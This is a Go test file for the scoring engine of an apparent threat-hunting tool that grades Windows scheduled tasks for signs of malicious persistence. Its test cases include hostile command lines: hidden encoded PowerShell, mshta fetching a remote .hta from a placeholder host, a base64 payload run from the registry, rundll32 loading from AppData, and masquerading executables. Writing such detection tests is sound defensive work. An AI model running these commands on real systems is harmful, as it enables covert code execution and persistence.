package score_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/goshawk-hunt/goshawk/finding"
	"github.com/goshawk-hunt/goshawk/hunt/score"
	"github.com/goshawk-hunt/goshawk/internal/golden"
)

// judge grades a task with one action.
func judge(task finding.Task, more ...func(*score.Facts)) finding.Finding {
	facts := score.Facts{Task: &task, Events: map[string]int{"created": 1}}
	for _, m := range more {
		m(&facts)
	}
	v := score.Judge(facts)
	f := finding.Finding{Reasons: v.Reasons, Known: v.Known}
	f.Grade()
	return f
}

func exec(name, command, arguments string) finding.Task {
	return finding.Task{Name: name, Actions: []finding.TaskAction{{Kind: "Exec", Command: command, Arguments: arguments}}}
}

func with(t finding.Task, principal, level, triggers string) finding.Task {
	t.Principal, t.RunLevel, t.Triggers = principal, level, triggers
	// "TimeTrigger PT5M", "CalendarTrigger ScheduleByDay", "Calendar/Logon", "minute 5", ..
	kinds := strings.FieldsFunc(triggers, func(r rune) bool { return r == ' ' || r == '+' || r == '/' })
	for i, kind := range kinds {
		if strings.HasPrefix(kind, "ScheduleBy") || kind == "Maintenance" {
			continue
		}
		if iso, ok := strings.CutPrefix(kind, "PT"); ok && i > 0 {
			every, _ := time.ParseDuration(strings.ToLower(iso))
			t.Starts[len(t.Starts)-1].Every = int64(every / time.Second)
			continue
		}
		t.Starts = append(t.Starts, finding.Start{Kind: strings.TrimSuffix(kind, "Trigger") + "Trigger"})
	}
	return t
}

func TestJudge(t *testing.T) {
	for _, tt := range []struct {
		what  string
		task  finding.Task
		least finding.Severity
		most  finding.Severity
		says  string // part of a reason that must be there
	}{
		{"encoded PowerShell", exec(`\Up`, "powershell.exe", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"), finding.High, finding.Critical, "encoded command of 24 characters"},
		{"remote hta", exec(`\Sync`, "mshta.exe", "https://x.example/a.hta"), finding.High, finding.Critical, "names an address on the network"},
		{"output to temp", with(exec(`\aXmDqEoL`, "cmd.exe", `/C whoami > %windir%\Temp\aXmDqEoL.tmp 2>&1`), "S-1-5-18", "HighestAvailable", ""), finding.Critical, finding.Critical, "looks random"},
		{"public folder as SYSTEM", with(exec(`\Updater`, `C:\Users\Public\u.exe`, ""), "S-1-5-18", "", "LogonTrigger"), finding.High, finding.Critical, "runs that as SYSTEM"},
		{"shadow copy", exec(`\x1`, `\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy7\Windows\Temp\s.exe`, ""), finding.Medium, finding.Critical, "device path"},
		{"payload in the registry", exec(`\Job`, "powershell.exe", `-NonI -W hidden -c "IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String((gp HKCU:\Software\A b).b)))"`), finding.High, finding.Critical, "kept in the registry"},
		{"library from AppData", exec(`\Prefs`, "rundll32.exe", `C:\Users\a\AppData\Roaming\p.dat,#1`), finding.High, finding.Critical, "does not call itself a library"},
		{"masquerade", exec(`\Svc`, `C:\ProgramData\svchost.exe`, ""), finding.Medium, finding.Critical, "like one of Windows"},
		{"near name", exec(`\Svc`, `C:\Windows\Temp\svchosl.exe`, ""), finding.Medium, finding.Critical, "nearly like svchost.exe"},
		{"two extensions", exec(`\Doc`, `C:\Users\a\Downloads\invoice.pdf.exe`, ""), finding.High, finding.Critical, "two extensions"},
		{"variable turned", exec(`\Microsoft\Windows\DiskCleanup\SilentCleanup`, `C:\Windows\system32\cmd.exe`, `\system32\cleanmgr.exe /autoclean /d C:`), finding.Medium, finding.Critical, "has the name of the known task"},
		{"fake folder", exec(`\Microsoft\SynchronizeTime`, "adf", ""), finding.Medium, finding.High, "no folder of Windows"},
		{"borrowed name", exec(`\GoogleUpdateTaskMachineUA`, `C:\Users\Public\GoogleUpdate.exe`, "/ua /installsource scheduler"), finding.Medium, finding.Critical, "has the name of the known task"},
		{"letters of two alphabets", exec("\\Оneupdаte Task", `C:\Program Files\A\a.exe`, ""), finding.Low, finding.Medium, "two alphabets"},

		{"one weak property: shell", exec(`\Nightly`, "cmd.exe", "/c echo done"), finding.Info, finding.Low, ""},
		{"a shell left empty", exec(`\flushupd`, "powershell.exe", `-w hidden -nop -c ""`), finding.Medium, finding.High, "an empty command"},
		{"forfiles that tidies", with(exec(`\Tidy`, "forfiles.exe", `/p C:\logs /m *.log /d -30 /c "cmd /c del @path"`), "S-1-5-18", "", ""), finding.Info, finding.Low, "removes or moves files"},
		{"forfiles that runs", exec(`\Tidy`, "forfiles.exe", `/p C:\windows /m notepad.exe /c "cmd /c del x & C:\Users\Public\a.exe"`), finding.Low, finding.Critical, "runs what others bring"},
		{"the domain's script", with(exec(`\Inventory`, "cscript.exe", `//B \\corp.example\SYSVOL\corp.example\scripts\i.vbs`), "S-1-5-18", "", ""), finding.Info, finding.Low, "the domain's share"},
		{"scheduled job of PowerShell", exec(`\Microsoft\Windows\PowerShell\ScheduledJobs\Sync`, "powershell.exe", `-NoLogo -NonInteractive -WindowStyle Hidden -Command "Import-Module PSScheduledJob; $jobDef = [Microsoft.PowerShell.ScheduledJob.ScheduledJobDefinition]::LoadFromStore('Sync', 'C:\Users\ann\AppData\Local\Microsoft\Windows\PowerShell\ScheduledJobs'); $jobDef.Run()"`), finding.Info, finding.Low, "agrees with"},
		{"more than a scheduled job", exec(`\Microsoft\Windows\PowerShell\ScheduledJobs\Sync`, "powershell.exe", `-NoLogo -NonInteractive -WindowStyle Hidden -Command "Import-Module PSScheduledJob; $jobDef = [Microsoft.PowerShell.ScheduledJob.ScheduledJobDefinition]::LoadFromStore('Sync', ''); iex $x; ('a', 'C:\Users\ann\AppData\Local\Microsoft\Windows\PowerShell\ScheduledJobs'); $jobDef.Run()"`), finding.Medium, finding.Critical, "but not its action"},
		{"one weak property: logon", with(exec(`\Tray`, `C:\Program Files\Tool\tray.exe`, ""), "", "", "LogonTrigger"), finding.Info, finding.Low, ""},
		{"one weak property: SYSTEM", with(exec(`\Agent`, `C:\Program Files\Agent\agent.exe`, "-run"), "S-1-5-18", "", ""), finding.Info, finding.Low, ""},
		{"known task", with(exec(`\GoogleUpdateTaskMachineUA{5C1DE8D8-1A9C-4F32-8062-6E1F475FB2AE}`, `C:\Program Files (x86)\Google\Update\GoogleUpdate.exe`, "/ua /installsource scheduler"), "S-1-5-18", "HighestAvailable", "CalendarTrigger"), finding.Info, finding.Info, "agrees with the known task"},
		{"script of Windows", with(exec(`\Microsoft\Windows\Server Manager\CleanupOldPerfLogs`, `%systemroot%\system32\cscript.exe`, `/B /nologo %systemroot%\system32\calluxxprovider.vbs`), "S-1-5-18", "", ""), finding.Info, finding.Low, ""},
	} {
		t.Run(tt.what, func(t *testing.T) {
			f := judge(tt.task)
			if f.Severity < tt.least || f.Severity > tt.most {
				t.Errorf("%v (%d), want %v to %v: %+v", f.Severity, f.Score, tt.least, tt.most, f.Reasons)
			}
			var all strings.Builder
			for _, r := range f.Reasons {
				all.WriteString(r.Text + "\n")
			}
			if !strings.Contains(all.String(), tt.says) {
				t.Errorf("no reason says %q:\n%s", tt.says, all.String())
			}
		})
	}
}

// TestTwoWeakOutrankOne is the promise of the score.
func TestTwoWeakOutrankOne(t *testing.T) {
	one := judge(exec(`\Nightly`, "cmd.exe", "/c C:\\Tools\\x.cmd"))
	two := judge(with(exec(`\Nightly`, "cmd.exe", "/c C:\\Tools\\x.cmd"), "", "", "TimeTrigger PT5M"))
	if two.Score <= one.Score || two.Severity <= one.Severity {
		t.Errorf("two properties: %d %v, one: %d %v", two.Score, two.Severity, one.Score, one.Severity)
	}
}

func TestNameAloneNeverExcuses(t *testing.T) {
	for _, task := range []finding.Task{
		exec(`\GoogleUpdateTaskMachineUA`, "cmd.exe", "/c C:\\Users\\Public\\a.bat"),
		exec(`\Microsoft\Windows\UpdateOrchestrator\Schedule Scan`, `C:\ProgramData\usoclient.exe`, "StartScan"),
		exec(`\OneDrive Standalone Update Task-S-1-5-21-1-2-3-1001`, `%localappdata%\Temp\OneDriveStandaloneUpdater.exe`, ""),
	} {
		if f := judge(task); f.Known != "" || f.Severity < finding.Medium {
			t.Errorf("%s: %v (%d), known %q", task.Name, f.Severity, f.Score, f.Known)
		}
	}
}

func TestCreatorAndRarity(t *testing.T) {
	quiet := exec(`\Report`, `C:\Program Files\Report\report.exe`, "")
	for _, tt := range []struct {
		says string
		fact func(*score.Facts)
	}{
		{"seen on 1 of 50 devices (7 runs)", func(f *score.Facts) { f.Devices, f.Fleet, f.Runs = 1, 50, 7 }},
		{"service account", func(f *score.Facts) { f.SIDs = []string{"S-1-5-19"} }},
		{"a web server: w3wp.exe", func(f *score.Facts) { f.Processes = []finding.Process{{Role: "creator", FileName: "w3wp.exe"}} }},
		{"was started by Office: winword.exe", func(f *score.Facts) {
			f.Processes = []finding.Process{{Role: "creator", FileName: "schtasks.exe", Parent: `"C:\Program Files\Office\WINWORD.EXE" a.docm`}}
		}},
		{"made on another computer: srv1", func(f *score.Facts) {
			f.Processes = []finding.Process{{Role: "creator", FileName: "schtasks.exe", CommandLine: `schtasks /create /s srv1 /tn Report /tr x.exe`}}
		}},
		{"a renamed copy", func(f *score.Facts) {
			f.Processes = []finding.Process{{Role: "creator", FileName: "note.exe", CommandLine: `schtasks /create /tn Report /tr x.exe`}}
		}},
	} {
		f := judge(quiet, tt.fact)
		found := false
		for _, r := range f.Reasons {
			found = found || strings.Contains(r.Text, tt.says)
		}
		if !found {
			t.Errorf("no reason says %q: %+v", tt.says, f.Reasons)
		}
	}
	if f := judge(quiet, func(f *score.Facts) { f.Devices, f.Fleet = 1, 1 }); f.Score != 0 {
		t.Errorf("in a case of one device rarity counts %d points: %+v", f.Score, f.Reasons)
	}
}

func TestLooksRandom(t *testing.T) {
	random := []string{"aXmDqEoL", "hPqXzKwT", "lXyqPdMr", "QzRtVbNm", "kKjHgFdS", "xkcdqwpo", "tUvNaWeK", "WqLmZtBx"}
	plain := []string{"Nightly", "BackupJob", "JenkinsAgent", "SQLBackup", "zabbixagent", "TacticalRMM", "VeeamConfig", "WinSAT", "Inventory", "ReportMailer", "DailyExport", "CleanTemp", "elevator", "monitoring"}
	for i, names := range [][]string{random, plain} {
		for _, n := range names {
			f := judge(exec(`\`+n, `C:\Program Files\A\a.exe`, ""))
			got := false
			for _, r := range f.Reasons {
				got = got || strings.Contains(r.Text, "looks random")
			}
			if got != (i == 0) {
				t.Errorf("%s: random %v", n, got)
			}
		}
	}
}

// filledIn writes something for what the list leaves open.
var filledIn = strings.NewReplacer("<name>", "Nightly report", "<u>", "ann", "<plugin>", "BatteryGauge", "<export>", "Start", "<user>", "ann", `\Plugins\*`, `\Plugins\BatteryGauge`, `\ScheduledJobs\*`, `\ScheduledJobs\Nightly report`)

// TestBenignTasksStayLow judges every benign task that the reference material lists,
// also those that the catalogue does not know.
func TestBenignTasksStayLow(t *testing.T) {
	f, err := os.Open(filepath.Join(golden.Shared(t), "tradecraft", "benign.csv"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	column := map[string]int{}
	for i, name := range rows[0] {
		column[name] = i
	}
	loud := 0
	for _, row := range rows[1:] {
		get := func(name string) string { return filledIn.Replace(row[column[name]]) }
		task := with(finding.Task{Name: get("task_path")}, get("principal"), get("runlevel"), get("triggers"))
		action := finding.TaskAction{Kind: "Exec", Command: get("command"), Arguments: get("arguments")}
		if get("action_type") == "com" {
			action = finding.TaskAction{Kind: "ComHandler", ClassID: get("command")}
		}
		task.Actions = []finding.TaskAction{action}
		if got := judge(task); got.Severity >= finding.Medium {
			loud++
			t.Logf("%s %s: %v (%d) %s %s: %+v", get("id"), get("source"), got.Severity, got.Score, action.Command, action.Arguments, got.Reasons)
		}
	}
	// The hardest look-alikes carry two suspicious properties by nature; see docs/evaluation.md.
	if limit := 4; loud > limit {
		t.Errorf("%d of %d benign tasks reach medium, at most %d may", loud, len(rows)-1, limit)
	}
}

func FuzzAction(f *testing.F) {
	f.Add("cmd.exe", "/c start /min powershell -enc AAAA")
	f.Add("rundll32", ",#1")
	f.Add("\"", "%")
	f.Fuzz(func(t *testing.T, command, arguments string) {
		score.Action(finding.TaskAction{Command: command, Arguments: arguments})
		judge(with(exec(command, command, arguments), arguments, command, arguments))
	})
}

// When a task runs is judged by the kinds of its triggers that are on, whatever their
// texts say.
func TestTriggers(t *testing.T) {
	every := func(s int64) finding.Start { return finding.Start{Kind: "TimeTrigger", Every: s} }
	for name, c := range map[string]struct {
		task   finding.Task
		starts []finding.Start
		want   string
	}{
		"an event that speaks of logons": {finding.Task{Name: `\A`, Starting: finding.Starting{Triggers: "EventTrigger *[EventID=4624] and logon, boot, wnf PT1M"}},
			[]finding.Start{{Kind: "EventTrigger"}}, "starts at an event of its own choice"},
		"logon":                       {finding.Task{Name: `\A`}, []finding.Start{{Kind: "IdleTrigger"}, {Kind: "LogonTrigger"}}, "starts at logon"},
		"turned off":                  {finding.Task{Name: `\A`}, []finding.Start{{Kind: "LogonTrigger", Off: true}, {Kind: "TimeTrigger", Every: 60, Off: true}}, ""},
		"WNF and boot":                {finding.Task{Name: `\A`}, []finding.Start{{Kind: "WnfStateChangeTrigger"}, {Kind: "BootTrigger"}}, "starts at a notification inside of Windows (WNF), which no tool offers; starts with Windows"},
		"often":                       {finding.Task{Name: `\A`}, []finding.Start{every(3600), every(300)}, "repeats every 5 minutes"},
		"hourly is nothing by itself": {finding.Task{Name: `\A`}, []finding.Start{every(3600)}, ""},
		"Windows' own":                {finding.Task{Name: `\Microsoft\Windows\A\B`}, []finding.Start{{Kind: "LogonTrigger"}, every(60)}, ""},
		"text alone":                  {finding.Task{Name: `\A`, Starting: finding.Starting{Triggers: "LogonTrigger every PT1M"}}, nil, ""},
	} {
		c.task.Starts = c.starts
		c.task.Actions = []finding.TaskAction{{Command: `C:\Program Files\A\a.exe`}}
		var got []string
		for _, r := range score.Judge(score.Facts{Task: &c.task}).Reasons {
			if r.Property == finding.Trigger {
				got = append(got, r.Text)
			}
		}
		if strings.Join(got, "; ") != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
}
